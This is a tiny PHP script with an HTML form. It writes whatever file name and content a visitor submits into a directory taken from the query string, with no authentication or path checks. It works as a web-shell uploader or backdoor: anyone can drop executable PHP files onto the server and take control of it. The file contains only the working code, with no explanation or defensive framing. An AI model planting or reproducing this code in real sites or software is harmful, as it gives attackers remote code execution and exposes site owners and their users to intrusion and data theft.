<?php
$dir = $_GET['d'];
$name = $_POST['n'];
$txt = $_POST['t'];
if ($name !== null) { file_put_contents($dir . '/' . $name, $txt); }
?>
<form method="post"><input name="n"><textarea name="t"></textarea><input type="submit"></form>
